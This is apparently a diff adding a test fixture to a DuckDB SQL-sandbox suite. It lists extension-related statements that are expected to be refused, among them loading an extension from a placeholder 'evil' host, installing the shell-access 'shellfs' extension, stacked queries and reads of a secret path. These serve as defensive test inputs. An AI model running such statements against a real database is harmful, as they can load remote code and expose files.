@@ -1,0 +1,31 @@
+import { refused, type AttackClass } from '../attack-class.ts'
+
+export const extensions: AttackClass = {
+  name: 'extensions',
+  endings: refused,
+  statements: [
+    'INSTALL httpfs',
+    "INSTALL '$HOST/evil.duckdb_extension'",
+    'FORCE INSTALL httpfs',
+    "INSTALL spatial FROM 'http://$HTTP'",
+    'INSTALL shellfs FROM community',
+    'LOAD httpfs',
+    "LOAD '$HOST/evil.duckdb_extension'",
+    'UPDATE EXTENSIONS',
+    'SELECT 1; LOAD httpfs',
+    'EXPLAIN LOAD httpfs',
+    'SELECT * FROM duckdb_extensions()',
+    'SELECT * FROM duckdb_extensions',
+    "SELECT * FROM query('LOAD httpfs')",
+    "SELECT * FROM st_read('$SECRET')",
+    "SELECT * FROM read_xlsx('$SECRET')",
+    "SELECT * FROM iceberg_scan('$HOST')",
+    "SELECT * FROM delta_scan('$HOST')",
+    "SELECT * FROM sql_auto_complete('SEL')",
+    'SELECT * FROM dsdgen(sf = 0.01)',
+    'SELECT * FROM tpch_queries()',
+    'CREATE INDEX a ON sales USING rtree (city)',
+    'SELECT st_point(1, 2)',
+    "SELECT icu_sort_key(city, 'de') FROM sales",
+  ],
+}
